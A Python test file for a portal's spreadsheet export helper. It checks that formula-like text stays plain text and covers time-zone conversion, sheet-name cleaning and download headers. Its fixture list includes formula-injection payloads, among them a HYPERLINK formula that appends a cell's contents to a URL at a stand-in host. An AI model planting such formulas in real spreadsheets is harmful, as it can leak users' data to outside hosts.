"""The shared spreadsheet writer (portal.exports): what a person typed stays text."""

import datetime
from io import BytesIO

from openpyxl import load_workbook

from portal.exports import xlsx_bytes, xlsx_response

FORMULAS = ['=HYPERLINK("http://example.com/?"&B3,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1"]


def test_text_that_looks_like_a_formula_is_written_as_text():
    content = xlsx_bytes("信件", ["标题"], [[text] for text in FORMULAS])
    sheet = load_workbook(BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == FORMULAS
    assert {cell.data_type for cell in cells} == {"s"}
    # Editing such a cell in a spreadsheet program keeps it text.
    assert all(cell.quotePrefix for cell in cells)


def test_numbers_and_times_stay_sortable_values():
    moment = datetime.datetime(2026, 11, 30, 1, 2, 3, tzinfo=datetime.UTC)
    content = xlsx_bytes("统计", ["时间", "日期", "数量", "空"], [[moment, datetime.date(2026, 12, 1), 7, None]])
    row = next(load_workbook(BytesIO(content)).active.iter_rows(min_row=2, values_only=True))
    # Times are shown in the portal's time zone (Asia/Shanghai), as staff read them on screen.
    assert row == (datetime.datetime(2026, 11, 30, 9, 2, 3), datetime.datetime(2026, 12, 1), 7, None)


def test_control_characters_do_not_break_the_file_and_sheet_names_are_accepted():
    content = xlsx_bytes("统计[2026/11]", ["内容"], [["第一行\x00\x07第二行\n第三行"]])
    book = load_workbook(BytesIO(content))
    assert book.sheetnames == ["统计 2026 11 "]
    assert book.active["A2"].value == "第一行第二行\n第三行"


def test_the_download_carries_a_chinese_file_name_and_is_not_cached():
    response = xlsx_response(b"", "审核记录-20261130.xlsx")
    assert response["Content-Disposition"] == (
        "attachment; filename=\"-20261130.xlsx\"; filename*=UTF-8''%E5%AE%A1%E6%A0%B8%E8%AE%B0%E5%BD%95-20261130.xlsx"
    )
    assert response["Cache-Control"] == "no-store"
